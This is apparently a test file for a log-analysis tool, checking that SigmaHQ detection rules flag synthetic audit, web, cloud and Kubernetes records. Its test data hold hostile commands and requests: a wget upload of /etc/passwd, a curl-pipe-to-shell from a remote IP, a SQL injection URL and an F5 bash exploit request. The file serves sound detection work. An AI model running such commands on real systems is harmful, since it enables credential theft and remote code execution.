import { createHash } from "node:crypto";
import { describe, expect, test } from "vitest";

import { logsourceOf } from "../events/logsource.ts";
import { fieldsOf } from "../functions/analysis/fields.ts";
import { compileRuleSet } from "../functions/analysis/sigma/compile.ts";
import { sources } from "../functions/generator/sources/registry.ts";
import { readSigmaCorpus, sigmaCorpus } from "./support/sigma-corpus.ts";

const stamp = "msg=audit(1795260603.120:4711)";
const timestamp = "2026-11-21T11:00:00Z";

/** What the audit log says of a command that was run. */
const ran = (...argv: readonly string[]) =>
  [
    `type=SYSCALL ${stamp}: arch=c000003e syscall=59 success=yes auid=1000 uid=1000 exe="/usr/bin/${argv[0]}"`,
    `type=EXECVE ${stamp}: argc=${argv.length} ${argv.map((value, index) => `a${index}=${encode(value)}`).join(" ")}`,
    `type=CWD ${stamp}: cwd="/home/ana"`,
  ].join("\n");
const encode = (text: string) =>
  text.includes(" ") ? Buffer.from(text).toString("hex").toUpperCase() : `"${text}"`;
const got = (target: string, method = "GET") =>
  `203.0.113.5 - - [21/Nov/2026:12:30:03 +0100] "${method} ${target} HTTP/1.1" 200 5 "-" "Mozilla/5.0"`;
const okta = (more: object) => ({
  uuid: "u",
  published: timestamp,
  actor: { alternateId: "dora@example.com" },
  outcome: { result: "SUCCESS" },
  ...more,
});
const gcp = (protoPayload: object) => ({ protoPayload, insertId: "i", timestamp });

/** Source, what happened, the record, and the rule of SigmaHQ that has to find it; none for ordinary work. */
const cases: readonly (readonly [source: string, what: string, record: unknown, rule?: string])[] = [
  ["auditd", "a listing", ran("ls", "-la")],
  ["auditd", "an upload", ran("wget", "--post-file=/etc/passwd"), "cb39d16b-b3b6-4a7a-8222-1cf24b686ffc"],
  [
    "auditd",
    "a pipe into a shell",
    ran("bash", "-c", "curl http://198.51.100.1/x | sh"),
    "880973f3-9708-491c-a77b-2a35a1921158",
  ],
  ["auditd", "a mutable file", ran("chattr", "-i", "/etc/x"), "34979410-e4b5-4e5d-8cfb-389fdff05c12"],
  [
    "auditd",
    "a kernel log made empty",
    `type=SYSCALL ${stamp}: arch=c000003e syscall=103 success=yes a0=5 a1=0 exe="/usr/bin/dmesg"`,
    "eca5e022-d368-4043-98e5-9736fb01f72f",
  ],
  [
    "auditd",
    "a firewall stopped",
    `type=SERVICE_STOP ${stamp}: pid=1 uid=0 auid=4294967295 msg='unit=firewalld comm="systemd" res=success'`,
    "53059bc0-1472-438b-956a-7508a94a91f0",
  ],
  [
    "auditd",
    "a service laid down",
    [
      `type=SYSCALL ${stamp}: arch=c000003e syscall=257 success=yes exe="/usr/bin/cp"`,
      `type=PATH ${stamp}: item=0 name="/etc/systemd/system" nametype=PARENT`,
      `type=PATH ${stamp}: item=1 name="/etc/systemd/system/x.service" nametype=CREATE`,
    ].join("\n"),
    "1bac86ba-41aa-4f62-9d6b-405eac99b485",
  ],
  ["web-access", "a page", got("/index.html")],
  ["web-access", "an injection", got("/x?id=1%20UNION%20SELECT%20a"), "5513deaf-f49a-46c2-a6c8-3f111b5cb453"],
  ["web-access", "an exploit", got("/mgmt/tm/util/bash", "POST"), "85254a62-22be-4239-b79c-2ec17e566c37"],
  ["okta", "a sign-in", okta({ eventType: "user.session.start" })],
  [
    "okta",
    "a proxy",
    okta({ eventType: "user.session.start", securityContext: { isProxy: true } }),
    "bde30855-5c53-4c18-ae90-1ff79ebc9578",
  ],
  [
    "okta",
    "a new way into the console",
    okta({
      eventType: "policy.evaluate_sign_on",
      target: [{ displayName: "Okta Admin Console" }],
      debugContext: { debugData: { behaviors: "{New IP=POSITIVE}" } },
    }),
    "a0b38b70-3cb5-484b-a4eb-c4d8e7bcc0a9",
  ],
  ["gcp", "a look", gcp({ methodName: "v1.compute.instances.get" })],
  [
    "gcp",
    "a firewall gone",
    gcp({ methodName: "v1.compute.firewalls.delete" }),
    "fe513c69-734c-4d4a-8548-ac5f609be82b",
  ],
  [
    "gcp",
    "a policy gone",
    gcp({
      serviceName: "accesscontextmanager.googleapis.com",
      methodName: "google.identity.accesscontextmanager.v1.AccessContextManager.DeleteAccessPolicy",
      authorizationInfo: [{ permission: "accesscontextmanager.accessPolicies.delete", granted: true }],
    }),
    "32438676-1dba-4ac7-bf69-b86cba995e05",
  ],
  [
    "gcp",
    "a warning of Google Workspace",
    gcp({
      serviceName: "login.googleapis.com",
      methodName: "google.login.LoginService.govAttackWarning",
      metadata: { event: [{ eventName: "gov_attack_warning" }] },
    }),
    "eafe6f2b-cfec-4612-aec2-49563c33a087",
  ],
  [
    "azure-activity",
    "a new server",
    {
      time: timestamp,
      resourceId: "/providers/AdFederationService_till",
      operationName: "Microsoft.ADHybridHealthService/services/servicemembers/action",
      category: "Administrative",
    },
    "288a39fc-4914-4831-9ada-270e9dc12cb4",
  ],
  [
    "kubernetes",
    "a mount of the host",
    {
      kind: "Event",
      apiVersion: "audit.k8s.io/v1",
      auditID: "a",
      verb: "create",
      objectRef: { resource: "pods", namespace: "shop" },
      requestObject: { spec: { volumes: [{ name: "x", hostPath: { path: "/" } }] } },
    },
    "402b955c-8fe0-4a8c-b635-622b4ac5f902",
  ],
  [
    "github",
    "a repository gone",
    { action: "repo.destroy", actor: "dora", _document_id: "d" },
    "16a71777-0b2e-4db7-9888-9d59cb75200b",
  ],
];

describe.skipIf(sigmaCorpus === undefined)("rules of SigmaHQ (AUDITFLOW_SIGMA_CORPUS)", () => {
  const hash = (text: string) => createHash("sha256").update(text).digest("hex");
  const { ruleSet } = compileRuleSet(sigmaCorpus === undefined ? [] : readSigmaCorpus(sigmaCorpus), { hash });

  test.for(cases)("find what a record of %s says: %s", ([name, , record, rule]) => {
    const source = sources.find((each) => each.name === name);
    const [adapted] = source?.adapt(record, { headers: {}, receivedAt: 0, repetition: () => 0 }) ?? [];
    if (!adapted) throw new Error("no event");
    const matched = ruleSet.match(fieldsOf(adapted.data), logsourceOf(adapted.data) ?? {});
    const ids = matched.map(({ id }) => id);
    if (rule === undefined) expect(ids).toEqual([]);
    else expect(ids).toContain(rule);
  });
});
